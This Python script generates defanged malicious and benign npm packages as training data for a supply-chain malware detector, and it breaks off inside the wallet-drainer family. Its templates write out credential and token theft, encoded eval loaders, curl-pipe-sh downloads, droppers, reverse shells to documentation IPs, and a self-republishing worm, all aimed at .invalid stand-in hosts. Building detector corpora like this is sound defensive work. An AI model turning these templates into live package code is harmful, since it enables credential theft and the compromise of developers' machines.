#!/usr/bin/env python3
"""synth_npm.py: hand-written, defanged npm packages for training.

Almost no real npm malware is available here (the GuardDog snippets are
single files), so the model sees npm attack shapes mostly through PyPI
malware rewritten into npm form. This writes a small corpus of npm
packages composed from hand-written building blocks of the attack shapes
npm advisories describe - install-hook and import-time credential theft,
encoded payloads run through eval / Function / vm, download-and-execute,
connect-back shells - and, as many again, benign packages written in the
same style that use the same APIs for ordinary work (decoding base64 data,
running git from a CLI, fetching JSON, reading their own config), so the
model cannot learn "synthetic" instead of "malicious".

Every package is defanged and harmless even if something ran it: hosts are
reserved .invalid names or documentation addresses (192.0.2.0/24,
198.51.100.0/24), "home" folders are inside the package, downloads go to
nothing (the hosts never resolve) and no command runs unless such a host
answered. moat only ever reads these statically (moat dataset).

Malicious families (each written as varied code: random identifiers,
helpers, ordering, try/catch, setTimeout, minified one-liners; at import
time, in install hooks, in bin commands or in page code): the first blocks
("classic": env/file theft, encoded loaders, droppers, connect-back shells),
worm (publishing tokens from env, .npmrc and `gh auth token` uploaded to a
code-host API, then npm publish / npm version patch / a rewritten
package.json / the registry publish endpoint), stealer (env tokens,
credential files, host facts to ordinary https hosts or DNS), drainer
(fetch/XHR/ethereum.request hooks, wallet regexes and addresses, clipboard
swaps), obf-loader (obfuscator string pools, base64/hex/XOR payloads run by
eval, Function, vm, computed names, fromCharCode requires), datafile (payload
in a font/image/.dat file read and evaluated), hook-exec (install scripts
running a shipped binary, node -e one-liners, curl | sh), dropper (download,
write, chmod, detached run). Benign families are the hard negatives that use
the same APIs for ordinary work: native-binary installers (own host, sha256
check, chmod, --version), release CLIs (NPM_TOKEN/GITHUB_TOKEN, npm publish),
REST clients, fetch/XHR instrumentation and polyfills, web3 helpers with
contract addresses, copy-to-clipboard, import() shims, template compilers,
build tools, .npmrc registry lookup, `open`-style launchers, asset
embedders, harmless install hooks, and the first benign blocks. The families
are also units that trojan_npm.py inserts into real packages. Wallet
addresses are random bytes in valid form (nobody's); credential "home"
folders are inside the package; every publish goes to an .invalid registry
and only after an upload to an .invalid host succeeded.

The test fixtures under testdata/fixtures are NOT generated here and none of
this code is copied from them; they stay an independent check. No name of
shared/data/reserved-for-evaluation.tsv is used.

  synth_npm.py --out DIR [--n 400] [--seed 7]
writes DIR/malicious/*.tgz, DIR/benign/*.tgz and DIR/{malicious,benign}.tsv
(note column: label and family); the same bytes every run.
"""
import argparse
import base64
import csv
import io
import json
import os
import random
import tarfile

WORDS = """amber arrow atlas beacon birch blaze bloom breeze brook canyon cedar chalk
cinder clover comet coral crane crest dawn delta drift ember fable fern flint
forge frost gale garnet glade glow granite grove harbor hazel heron hollow
indigo iris ivory jade juniper kestrel lagoon lark lumen maple marble meadow
mesa mist moss nebula nimbus oak onyx opal orbit orchid otter pebble pine
plume prism quartz quill raven reef ridge river robin sable sage shale spruce
summit swift thistle thorn tide timber topaz tundra vale vapor willow wren
yarrow zephyr""".split()
KINDS = "utils kit core lib helper tools js parse format color config loader client sdk cli".split()
HOSTS = ["collect.invalid", "telemetry-cdn.invalid", "api.stats.invalid", "hooks.example.invalid",
         "update-check.invalid", "cdn-assets.invalid", "npm-mirror.invalid", "pkg-metrics.invalid"]
DOC_IPS = ["192.0.2.10", "192.0.2.77", "198.51.100.23", "198.51.100.200"]


def name(rng):
    return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.choice(KINDS)}"


def filler(rng):
    """Ordinary utility code that real packages carry around the payload."""
    parts = [
        "function camelCase(s) {\n  return String(s).replace(/[-_\\s]+(.)?/g, (_, c) => (c ? c.toUpperCase() : ''));\n}\n",
        "function clamp(n, lo, hi) {\n  return Math.min(hi, Math.max(lo, n));\n}\n",
        "function pad(s, n, ch = ' ') {\n  s = String(s);\n  while (s.length < n) s = ch + s;\n  return s;\n}\n",
        "function chunk(arr, size) {\n  const out = [];\n  for (let i = 0; i < arr.length; i += size) out.push(arr.slice(i, i + size));\n  return out;\n}\n",
        "function debounce(fn, ms) {\n  let t;\n  return function (...args) {\n    clearTimeout(t);\n    t = setTimeout(() => fn.apply(this, args), ms);\n  };\n}\n",
        "function isPlainObject(v) {\n  return Object.prototype.toString.call(v) === '[object Object]';\n}\n",
        "function merge(a, b) {\n  const out = Object.assign({}, a);\n  for (const k of Object.keys(b || {})) out[k] = isObj(b[k]) && isObj(a[k]) ? merge(a[k], b[k]) : b[k];\n  return out;\n}\nfunction isObj(v) { return v && typeof v === 'object' && !Array.isArray(v); }\n",
        "class Emitter {\n  constructor() { this.handlers = {}; }\n  on(e, fn) { (this.handlers[e] = this.handlers[e] || []).push(fn); return this; }\n  emit(e, ...a) { (this.handlers[e] || []).forEach((fn) => fn(...a)); }\n}\n",
    ]
    rng.shuffle(parts)
    return "\n".join(parts[: rng.randint(1, 4)])


def exports_line(rng):
    return rng.choice([
        "module.exports = { camelCase: typeof camelCase === 'function' ? camelCase : undefined };\n",
        "module.exports = function main(opts) { return Object.assign({}, opts); };\n",
        "exports.version = '1.0.0';\n",
    ])


def encode(rng, payload):
    """An expression that evaluates to payload, and which decoder it uses."""
    how = rng.choice(["b64", "b64", "hex", "charcodes", "reverse-b64", "split-b64"])
    if how == "b64":
        e = base64.b64encode(payload.encode()).decode()
        return f"Buffer.from('{e}', 'base64').toString()", how
    if how == "hex":
        e = payload.encode().hex()
        return f"Buffer.from('{e}', 'hex').toString('utf8')", how
    if how == "charcodes":
        codes = ",".join(str(ord(c)) for c in payload)
        return f"String.fromCharCode({codes})", how
    if how == "reverse-b64":
        e = base64.b64encode(payload.encode()).decode()[::-1]
        return f"Buffer.from('{e}'.split('').reverse().join(''), 'base64').toString()", how
    e = base64.b64encode(payload.encode()).decode()
    cut = [e[i:i + 24] for i in range(0, len(e), 24)]
    return "Buffer.from([" + ", ".join(f"'{c}'" for c in cut) + "].join(''), 'base64').toString()", how


def run_decoded(rng, expr):
    return rng.choice([
        f"eval({expr});\n",
        f"new Function({expr})();\n",
        f"require('vm').runInThisContext({expr});\n",
        f"const _r = {expr};\n(0, eval)(_r);\n",
    ])


# --- malicious building blocks (defanged) ------------------------------------

def steal_env(rng, host):
    var = rng.choice(["data", "info", "payload", "d"])
    send = rng.choice([
        f"const req = require('https').request({{ hostname: '{host}', path: '/c', method: 'POST' }}, () => {{}});\nreq.on('error', () => {{}});\nreq.end(JSON.stringify({var}));\n",
        f"require('http').get('http://{host}/i?d=' + Buffer.from(JSON.stringify({var})).toString('base64'), () => {{}}).on('error', () => {{}});\n",
        f"require('dns').lookup(Buffer.from(JSON.stringify({var})).toString('hex').slice(0, 60) + '.{host}', () => {{}});\n",
        f"fetch('https://{host}/collect', {{ method: 'POST', body: JSON.stringify({var}) }}).catch(() => {{}});\n",
    ])
    home = rng.choice(["path.join(__dirname, 'home')", "path.join(__dirname, '.cache', 'h')"])
    reads = rng.sample([
        "npmrc: tryRead(path.join(home, '.npmrc'))",
        "ssh: tryRead(path.join(home, '.ssh', 'id_rsa'))",
        "aws: tryRead(path.join(home, '.aws', 'credentials'))",
        "git: tryRead(path.join(home, '.gitconfig'))",
        "bash: tryRead(path.join(home, '.bash_history'))",
    ], rng.randint(1, 3))
    extra = rng.sample([
        "env: process.env",
        "host: os.hostname()",
        "user: os.userInfo().username",
        "cwd: process.cwd()",
        "ifaces: os.networkInterfaces()",
        "platform: os.platform()",
    ], rng.randint(1, 4))
    return ("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            f"const home = {home}; // defanged: a real stealer uses os.homedir()\n"
            "function tryRead(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } }\n"
            f"const {var} = {{ {', '.join(reads + extra)} }};\n" + send)


def loader(rng, host):
    inner = rng.choice([
        f"require('https').get('https://{host}/s2', r => {{ let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); }}).on('error', () => {{}})",
        f"console.log('defanged stage one for {host}')",
        f"require('child_process').exec('curl -s https://{host}/x | sh', () => {{}})",
        f"process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; require('https').get('https://{host}/c?k=' + Object.keys(process.env).join(','))",
    ])
    expr, _ = encode(rng, inner)
    var = rng.choice(["_0x1a2b", "_p", "q", "__s", "_0xdead"])
    if rng.random() < 0.5:
        return f"const {var} = {expr};\n" + run_decoded(rng, var)
    return run_decoded(rng, expr)


def dropper(rng, host):
    fname = rng.choice(["update", "svc", "helper", "node-cache"])
    runner = rng.choice([
        "require('child_process').spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();",
        "require('child_process').execFile(dest, () => {});",
        "require('child_process').exec('chmod +x ' + dest + ' && ' + dest, () => {});",
    ])
    return ("const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\n"
            f"const dest = path.join(os.tmpdir(), '{fname}-' + process.pid);\n"
            f"https.get('https://{host}/bin/' + os.platform() + '-' + os.arch(), (res) => {{\n"
            "  if (res.statusCode !== 200) return;\n"
            "  const f = fs.createWriteStream(dest, { mode: 0o755 });\n"
            "  res.pipe(f);\n"
            f"  f.on('finish', () => {{ {runner} }});\n"
            "}).on('error', () => {});\n")


def backconnect(rng, _host):
    ip = rng.choice(DOC_IPS)
    port = rng.choice([4444, 1337, 8443, 9001])
    return ("const net = require('net');\nconst cp = require('child_process');\n"
            f"const s = net.connect({port}, '{ip}', () => {{\n"
            "  const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n"
            "  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);\n"
            "});\ns.on('error', () => {});\n")


def scoped(rng, code):
    """code in its own scope, so two blocks can declare the same names."""
    inner = "".join("  " + l + "\n" for l in code.rstrip("\n").split("\n"))
    return rng.choice(["(function () {\n" + inner + "})();\n", "(() => {\n" + inner + "})();\n", "{\n" + inner + "}\n"])


def classic_malicious(rng):
    host = rng.choice(HOSTS)
    blocks = [rng.choice([steal_env, steal_env, loader, loader, dropper, backconnect])]
    if rng.random() < 0.3:
        blocks.append(rng.choice([steal_env, loader, dropper]))
    body = "".join(scoped(rng, b(rng, host)) if len(blocks) > 1 else b(rng, host) for b in blocks)
    if rng.random() < 0.35:  # the whole payload itself encoded
        expr, _ = encode(rng, body)
        body = run_decoded(rng, expr)
    trigger = rng.choice(["postinstall", "preinstall", "install", "import", "import", "import-late"])
    files, scripts = {}, {}
    head = "'use strict';\n// DEFANGED training sample (moat): hosts are .invalid or documentation IPs.\n"
    if trigger in ("postinstall", "preinstall", "install"):
        hook = rng.choice(["setup.js", "scripts/install.js", "lib/post.js", "build.js"])
        files[hook] = head + body
        scripts[trigger] = rng.choice([f"node {hook}", f"node ./{hook} || true", f"node {hook} > /dev/null 2>&1"])
        files["index.js"] = head + filler(rng) + exports_line(rng)
    elif trigger == "import":
        files["index.js"] = head + filler(rng) + body + exports_line(rng)
    else:
        files["lib/util.js"] = head + filler(rng) + body
        files["index.js"] = head + "require('./lib/util');\n" + filler(rng) + exports_line(rng)
    return files, scripts


# --- benign counterparts ---------------------------------------------------------

def classic_benign(rng):
    host = rng.choice(HOSTS)
    kind = rng.choice(["decode", "cli-git", "fetch-json", "config", "template", "native-build", "worker"])
    head = "'use strict';\n"
    files, scripts = {}, {}
    if kind == "decode":
        blob = base64.b64encode(rng.randbytes(rng.randint(24, 90))).decode()
        body = (f"const ICON = Buffer.from('{blob}', 'base64');\n"
                "function dataUri(buf, type) { return 'data:' + type + ';base64,' + buf.toString('base64'); }\n"
                "module.exports = { icon: () => dataUri(ICON, 'image/png'), decode: (s) => Buffer.from(s, 'base64').toString('utf8') };\n")
    elif kind == "cli-git":
        body = ("const { execFileSync } = require('child_process');\nconst path = require('path');\n"
                "function gitRoot(cwd) {\n  return execFileSync('git', ['rev-parse', '--show-toplevel'], { cwd, encoding: 'utf8' }).trim();\n}\n"
                "function changedFiles(cwd) {\n  return execFileSync('git', ['diff', '--name-only'], { cwd: gitRoot(cwd), encoding: 'utf8' }).split('\\n').filter(Boolean).map((f) => path.join(cwd, f));\n}\n"
                "module.exports = { gitRoot, changedFiles };\n")
        if rng.random() < 0.5:
            files["bin/cli.js"] = "#!/usr/bin/env node\n" + head + "const { changedFiles } = require('..');\nconsole.log(changedFiles(process.cwd()).join('\\n'));\n"
    elif kind == "fetch-json":
        body = ("const https = require('https');\n"
                f"const DEFAULT = 'https://{host}/v1/';\n"
                "function getJSON(url, opts = {}) {\n  return new Promise((resolve, reject) => {\n"
                "    https.get(new URL(url, opts.base || DEFAULT), { headers: { accept: 'application/json', ...opts.headers } }, (res) => {\n"
                "      let b = '';\n      res.on('data', (c) => (b += c));\n      res.on('end', () => { try { resolve(JSON.parse(b)); } catch (e) { reject(e); } });\n"
                "    }).on('error', reject);\n  });\n}\nmodule.exports = { getJSON };\n")
    elif kind == "config":
        body = ("const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n"
                "function load(name, cwd = process.cwd()) {\n"
                "  const candidates = [path.join(cwd, '.' + name + 'rc'), path.join(cwd, name + '.config.json')];\n"
                "  for (const f of candidates) {\n    try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch (e) { /* next */ }\n  }\n"
                "  return { cacheDir: path.join(os.tmpdir(), name), debug: process.env.DEBUG === name };\n}\n"
                "module.exports = { load };\n")
    elif kind == "template":
        body = ("function compile(src) {\n  const code = 'return `' + String(src).replace(/`/g, '\\\\`') + '`;';\n"
                "  return new Function('data', 'with (data) { ' + code + ' }');\n}\n"
                "module.exports = { compile, render: (src, data) => compile(src)(data) };\n")
    elif kind == "native-build":
        body = ("let binding;\ntry {\n  binding = require('./build/Release/addon.node');\n} catch (e) {\n  binding = { hash: (s) => require('crypto').createHash('sha256').update(s).digest('hex') };\n}\n"
                "module.exports = binding;\n")
        scripts["install"] = rng.choice(["node-gyp rebuild", "node-gyp-build", "prebuild-install || node-gyp rebuild"])
        files["binding.gyp"] = json.dumps({"targets": [{"target_name": "addon", "sources": ["src/addon.cc"]}]})
        files["src/addon.cc"] = "// native addon source\n#include <node_api.h>\n"
    else:
        body = ("const { Worker } = require('worker_threads');\nconst path = require('path');\n"
                "function run(task) {\n  return new Promise((resolve, reject) => {\n"
                "    const w = new Worker(path.join(__dirname, 'worker.js'), { workerData: task });\n"
                "    w.on('message', resolve);\n    w.on('error', reject);\n  });\n}\nmodule.exports = { run };\n")
        files["worker.js"] = head + "const { parentPort, workerData } = require('worker_threads');\nparentPort.postMessage(JSON.stringify(workerData).length);\n"
    files["index.js"] = head + filler(rng) + body
    if rng.random() < 0.25 and not scripts:
        scripts["prepare"] = rng.choice(["tsc -p .", "npm run build", "husky install"])
    return files, scripts



# --- shared pieces of the families below -------------------------------------------
#
# A family returns a Unit: the code of one behaviour and where it runs
# ("import": required with the package; "install": an npm install hook runs
# it; "bin": a command the package installs; "browser": page code), plus any
# extra files, package.json scripts and fields it needs. build_pkg wraps a
# unit into a whole package; trojan_npm.py inserts the same units into real
# packages.

VERBS = "load init setup sync check fetch build resolve report track collect patch apply parse read get send flush prime warm boot".split()
NOUNS = "config cache state meta info data opts env stats store token buf chunk body result ctx payload entry item queue list map".split()
CODEHOSTS = ["api.codehost.invalid", "api.git-forge.invalid", "api.repohub.invalid", "gitapi.example.invalid"]
REGISTRIES = ["registry.pkg-mirror.invalid", "registry.npm-proxy.invalid", "packages.registry.invalid"]


def mal_host(rng):
    """An ordinary-looking https host (never a webhook or paste name)."""
    return rng.choice([
        f"{rng.choice(['api', 'cdn', 'static', 'status', 'sync', 'assets', 'events', 'log', 'metrics', 'update'])}."
        f"{rng.choice(WORDS)}{rng.choice(['-cloud', '-cdn', '-app', 'io', '-analytics', '', '-stats'])}.invalid",
        rng.choice(HOSTS),
    ])


def own_host(rng, pkg):
    """A host that belongs to the package itself (its downloads or API)."""
    base = pkg.split("-")[0]
    return f"{rng.choice(['downloads', 'api', 'releases', 'cdn', 'binaries', 'ingest'])}.{base}{rng.choice(['', 'js', '-dev', 'hq'])}.invalid"


class Names:
    """Fresh identifiers in one style: readable words, _0x… or short."""

    def __init__(self, rng, style=None):
        self.rng, self.used = rng, set()
        self.style = style or rng.choice(["word", "word", "word", "hex", "short"])

    def __call__(self):
        rng = self.rng
        while True:
            if self.style == "hex":
                n = "_0x" + format(rng.randrange(0x1000, 0xFFFFFF), "x")
            elif self.style == "short":
                n = rng.choice("abcdefghijklmnopqrstuvwxyz") + rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGH0123456789_$")
            else:
                n = rng.choice(VERBS) + rng.choice(NOUNS).capitalize() + rng.choice(["", "", str(rng.randint(1, 9))])
            if n not in self.used and n not in ("do", "if", "in"):
                self.used.add(n)
                return n


def unit(family, code="", trigger="import", files=None, scripts=None, pj=None):
    return {"family": family, "code": code, "trigger": trigger, "files": dict(files or {}),
            "scripts": dict(scripts or {}), "pj": dict(pj or {})}


def wrap(rng, code, browser=False):
    """Runs code as is, delayed, in a try/catch or in its own function."""
    body = "".join("  " + l + "\n" for l in code.rstrip("\n").split("\n"))
    forms = ["", "try {\n" + body + "} catch (e) {}\n",
             f"setTimeout(function () {{\n{body}}}, {rng.choice([0, 500, 3000, 60000, 120000])});\n",
             "(function () {\n" + body + "})();\n",
             "(async () => {\n" + body + "})().catch(() => {});\n"]
    if not browser:
        forms.append("process.nextTick(() => {\n" + body + "});\n")
    else:
        forms.append("window.addEventListener('load', function () {\n" + body + "});\n")
    f = rng.choice(forms)
    return f or code


def minify(code):
    """Crude one-line form: every statement of the generated code ends in ; or
    a brace, and line comments are dropped."""
    out = []
    for l in code.split("\n"):
        s = l.strip()
        if not s or s.startswith("//"):
            continue
        out.append(s)
    return "".join(out) + "\n"


def fake_home(rng):
    """Defanged home folder: inside the package, never the user's."""
    return rng.choice(["path.join(__dirname, '.home')", "path.join(__dirname, 'test', 'fixtures', 'home')",
                       "process.env.SAMPLE_HOME || path.join(__dirname, '.h')"])


def b58(data):
    n = int.from_bytes(data, "big")
    out = ""
    alpha = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    while n:
        n, r = divmod(n, 58)
        out = alpha[r] + out
    return "1" * (len(data) - len(data.lstrip(b"\0"))) + out


def bech32(hrp, data5):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]

    def polymod(values):
        chk = 1
        for v in values:
            b = chk >> 25
            chk = (chk & 0x1ffffff) << 5 ^ v
            for i in range(5):
                chk ^= gen[i] if ((b >> i) & 1) else 0
        return chk
    vals = [ord(c) >> 5 for c in hrp] + [0] + [ord(c) & 31 for c in hrp] + data5
    pm = polymod(vals + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    cs = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
    return hrp + "1" + "".join(cs[d] for d in data5 + chk)


def wallet(rng, kind=None):
    """A random, well-formed wallet address (nobody's: random bytes)."""
    import hashlib
    kind = kind or rng.choice(["eth", "eth", "btc", "bc1", "sol"])
    if kind == "eth":
        return "0x" + rng.randbytes(20).hex()
    if kind == "btc":
        p = b"\0" + rng.randbytes(20)
        return b58(p + hashlib.sha256(hashlib.sha256(p).digest()).digest()[:4])
    if kind == "sol":
        return b58(rng.randbytes(32))
    return bech32("bc", [0] + [rng.randrange(32) for _ in range(32)])


def send_code(rng, host, var, n, browser=False):
    """Sends JSON var to host: https.request, fetch, axios-like, http GET or DNS."""
    p = rng.choice(["/v1/collect", "/api/events", "/t", "/i", "/log", "/sync", "/metrics/ingest"])
    forms = [f"fetch('https://{host}{p}', {{ method: 'POST', headers: {{ 'content-type': 'application/json' }}, body: JSON.stringify({var}) }}).catch(() => {{}});\n"]
    if browser:
        forms.append(f"navigator.sendBeacon('https://{host}{p}', JSON.stringify({var}));\n")
        return rng.choice(forms)
    r = n()
    forms += [
        f"const {r} = require('https').request({{ hostname: '{host}', path: '{p}', method: 'POST', headers: {{ 'Content-Type': 'application/json' }} }}, () => {{}});\n"
        f"{r}.on('error', () => {{}});\n{r}.write(JSON.stringify({var}));\n{r}.end();\n",
        f"require('https').request('https://{host}{p}', {{ method: 'POST' }}).on('error', () => {{}}).end(Buffer.from(JSON.stringify({var})).toString('base64'));\n",
        f"require('axios').post('https://{host}{p}', {var}, {{ timeout: 5000 }}).catch(() => {{}});\n",
        f"require('http').get('http://{host}{p}?d=' + encodeURIComponent(Buffer.from(JSON.stringify({var})).toString('base64')), () => {{}}).on('error', () => {{}});\n",
        f"const {r} = Buffer.from(JSON.stringify({var})).toString('hex').match(/.{{1,60}}/g) || [];\n"
        f"{r}.slice(0, 20).forEach((c, i) => require('dns').resolve4(i + '.' + c + '.{host}', () => {{}}));\n",
    ]
    return rng.choice(forms)


SECRET_FILES = [
    "'.npmrc'", "'.ssh', 'id_rsa'", "'.ssh', 'id_ed25519'", "'.aws', 'credentials'",
    "'.config', 'gcloud', 'application_default_credentials.json'", "'.azure', 'accessTokens.json'",
    "'.kube', 'config'", "'.docker', 'config.json'", "'.git-credentials'", "'.netrc'", "'.config', 'gh', 'hosts.yml'",
]
ENV_SECRETS = ["NPM_TOKEN", "GITHUB_TOKEN", "GH_TOKEN", "NODE_AUTH_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
               "CI_JOB_TOKEN", "GITLAB_TOKEN", "SLACK_TOKEN", "DATABASE_URL", "OPENAI_API_KEY", "CIRCLE_TOKEN"]


def collect_code(rng, n, var):
    """Builds var: env tokens, credential files and host facts."""
    rd, home = n(), n()
    lines = ["const fs = require('fs');", "const os = require('os');", "const path = require('path');",
             f"const {home} = {fake_home(rng)};",
             f"function {rd}(p) {{ try {{ return fs.readFileSync(p, 'utf8'); }} catch (e) {{ return null; }} }}"]
    fields = []
    envs = rng.sample(ENV_SECRETS, rng.randint(1, 4))
    style = rng.choice(["named", "named", "filter", "all"])
    if style == "named":
        fields += [f"{e.lower()}: process.env.{e}" for e in envs]
    elif style == "filter":
        fields.append("env: Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY|PASS|AUTH/i.test(k)).reduce((o, k) => { o[k] = process.env[k]; return o; }, {})")
    else:
        fields.append("env: process.env")
    for f in rng.sample(SECRET_FILES, rng.randint(1, 4)):
        key = f.split(",")[-1].strip().strip("'").replace(".", "").replace("-", "_")
        fields.append(f"{key}: {rd}(path.join({home}, {f}))")
    facts = ["host: os.hostname()", "user: os.userInfo().username", "platform: os.platform()", "cwd: process.cwd()",
             "ifaces: Object.keys(os.networkInterfaces())", "node: process.version"]
    fields += rng.sample(facts, rng.randint(1, 3))
    rng.shuffle(fields)
    lines.append(f"const {var} = {{ {', '.join(fields)} }};")
    return "\n".join(lines) + "\n"


# --- new malicious families --------------------------------------------------------

def fam_worm(rng, pkg):
    """Steals publishing tokens (env, .npmrc, gh auth token), uploads them to a
    code-host API and republishes itself (npm publish, npm version patch,
    a rewritten package.json, or the registry's publish endpoint)."""
    n = Names(rng)
    codehost, reg = rng.choice(CODEHOSTS), rng.choice(REGISTRIES)
    ntok, gtok, loot, up, spread = n(), n(), n(), n(), n()
    code = ["const fs = require('fs');", "const path = require('path');", "const os = require('os');",
            f"const {{ {rng.choice(['execSync', 'execSync'])} }} = require('child_process');",
            "const https = require('https');",
            f"const REG = 'https://{reg}/';",
            f"function {ntok}() {{",
            f"  let t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '';",
            f"  try {{ const rc = fs.readFileSync(path.join({fake_home(rng)}, '.npmrc'), 'utf8'); const m = rc.match(/_authToken=(\\S+)/); if (m && !t) t = m[1]; }} catch (e) {{}}",
            "  return t;", "}",
            f"function {gtok}() {{",
            "  let t = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || '';",
            "  if (!t) { try { t = execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) {} }",
            "  return t;", "}"]
    up_kind = rng.choice(["contents", "repo", "gist"])
    owner = rng.choice(["s1ngularity-bk", "build-cache", "ci-backup", "sync-" + rng.choice(WORDS)])
    if up_kind == "contents":
        req = (f"{{ hostname: '{codehost}', path: '/repos/{owner}/' + os.hostname() + '/contents/data.json', method: 'PUT', "
               "headers: { Authorization: 'token ' + gh, 'User-Agent': 'node' } }")
        body = "JSON.stringify({ message: 'update', content: Buffer.from(JSON.stringify(data)).toString('base64') })"
    elif up_kind == "repo":
        req = (f"{{ hostname: '{codehost}', path: '/user/repos', method: 'POST', "
               "headers: { Authorization: 'Bearer ' + gh, 'User-Agent': 'node', 'Content-Type': 'application/json' } }")
        body = "JSON.stringify({ name: 'migration-' + Date.now(), private: false, description: Buffer.from(JSON.stringify(data)).toString('base64') })"
    else:
        req = (f"{{ hostname: '{codehost}', path: '/gists', method: 'POST', "
               "headers: { authorization: 'token ' + gh, 'user-agent': 'node' } }")
        body = "JSON.stringify({ public: true, files: { 'env.json': { content: JSON.stringify(data, null, 2) } } })"
    code += [f"function {up}(gh, data, done) {{",
             f"  const r = https.request({req}, (res) => {{ res.resume(); if (res.statusCode < 300) done(); }});",
             "  r.on('error', () => {});",
             f"  r.end({body});", "}"]
    pub = rng.choice(["exec", "version", "rewrite", "endpoint"])
    if pub == "exec":
        code += [f"function {spread}(tok) {{",
                 "  const env = Object.assign({}, process.env, { NPM_TOKEN: tok, npm_config_registry: REG });",
                 "  try { execSync('npm publish --access public --registry ' + REG, { cwd: __dirname, env, stdio: 'ignore' }); } catch (e) {}", "}"]
    elif pub == "version":
        code += [f"function {spread}(tok) {{",
                 "  fs.writeFileSync(path.join(__dirname, '.npmrc'), '//' + REG.slice(8) + ':_authToken=' + tok + '\\n');",
                 "  execSync('npm version patch --no-git-tag-version && npm publish --registry ' + REG, { cwd: __dirname, stdio: 'ignore' });", "}"]
    elif pub == "rewrite":
        d = n()
        code += [f"function {spread}(tok) {{",
                 f"  const {d} = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));",
                 "  const pj = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8'));",
                 "  const v = pj.version.split('.'); v[2] = String(Number(v[2]) + 1); pj.version = v.join('.');",
                 f"  pj.scripts = Object.assign({{}}, pj.scripts, {{ postinstall: 'node {rng.choice(['bundle.js', 'setup.js', 'lib/init.js'])}' }});",
                 f"  fs.writeFileSync(path.join({d}, 'package.json'), JSON.stringify(pj, null, 2));",
                 f"  fs.copyFileSync(__filename, path.join({d}, 'bundle.js'));",
                 f"  execSync('npm publish ' + {d} + ' --registry ' + REG, {{ env: Object.assign({{}}, process.env, {{ NODE_AUTH_TOKEN: tok }}), stdio: 'ignore' }});", "}"]
    else:
        code += [f"function {spread}(tok) {{",
                 "  const pj = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8'));",
                 "  const v = pj.version.replace(/\\d+$/, (x) => String(Number(x) + 1));",
                 "  const tgz = fs.readFileSync(path.join(__dirname, 'package.tgz'));",
                 "  const doc = { _id: pj.name, name: pj.name, 'dist-tags': { latest: v }, versions: { [v]: Object.assign({}, pj, { version: v }) },",
                 "    _attachments: { [pj.name + '-' + v + '.tgz']: { content_type: 'application/octet-stream', data: tgz.toString('base64'), length: tgz.length } } };",
                 "  const r = https.request(REG + encodeURIComponent(pj.name), { method: 'PUT', headers: { authorization: 'Bearer ' + tok, 'content-type': 'application/json' } }, () => {});",
                 "  r.on('error', () => {});", "  r.end(JSON.stringify(doc));", "}"]
    run = [f"const gh = {gtok}();", f"const npm = {ntok}();",
           "const data = { npm, gh, host: os.hostname(), env: process.env };",
           f"if (gh) {up}(gh, data, () => {{ if (npm) {spread}(npm); }});"]
    code += ["(function main() {"] + ["  " + l for l in run] + ["})();"]
    trig = rng.choice(["install", "install", "install", "import", "bin"])
    return unit("worm", "\n".join(code) + "\n", trig)


def fam_stealer(rng, pkg):
    """Import-time (mostly) theft of env tokens, credential files and host facts
    to an ordinary https host, or over DNS."""
    n = Names(rng)
    host = mal_host(rng)
    var = n()
    code = collect_code(rng, n, var) + send_code(rng, host, var, n)
    if rng.random() < 0.3:
        code = wrap(rng, code)
    trig = rng.choice(["import", "import", "import", "import", "install", "bin"])
    pj = {"dependencies": {"axios": "^1.6.0"}} if "axios" in code else {}
    return unit("stealer", code, trig, pj=pj)


def fam_drainer(rng, pkg):
    """Browser wallet drainer: hooks fetch/XHR/ethereum.request, swaps wallet
    addresses in traffic and on copy, no install hook."""
    n = Names(rng)
    addrs = {k: wallet(rng, k) for k in ("eth", "btc", "sol", "bc1")}
    rx, swap, near = n(), n(), n()
    parts = []
    rxs = rng.choice([
        f"const {rx} = {{ eth: /0x[a-fA-F0-9]{{40}}/g, btc: /\\b[13][a-km-zA-HJ-NP-Z1-9]{{25,34}}\\b/g, bc1: /\\bbc1[a-z0-9]{{39,59}}\\b/g, sol: /\\b[1-9A-HJ-NP-Za-km-z]{{32,44}}\\b/g }};",
        f"const {rx} = {{ eth: new RegExp('0x[0-9a-fA-F]{{40}}', 'g'), btc: /[13][a-km-zA-HJ-NP-Z1-9]{{25,34}}/g }};",
    ])
    targets = rng.choice([
        "{ " + ", ".join(f"{k}: '{v}'" for k, v in addrs.items()) + " }",
        "{ eth: ['" + "', '".join(wallet(rng, "eth") for _ in range(rng.randint(2, 6))) + f"'], btc: ['{addrs['btc']}'], sol: ['{addrs['sol']}'] }}",
    ])
    tgt = n()
    parts.append(rxs)
    parts.append(f"const {tgt} = {targets};")
    parts.append(f"function {near}(list, a) {{ if (!Array.isArray(list)) return list; let best = list[0], bs = -1; "
                 "for (const c of list) { let s = 0; for (let i = 0; i < 4; i++) { if (c[i + 2] === a[i + 2]) s++; if (c[c.length - 1 - i] === a[a.length - 1 - i]) s++; } if (s > bs) { bs = s; best = c; } } return best; }")
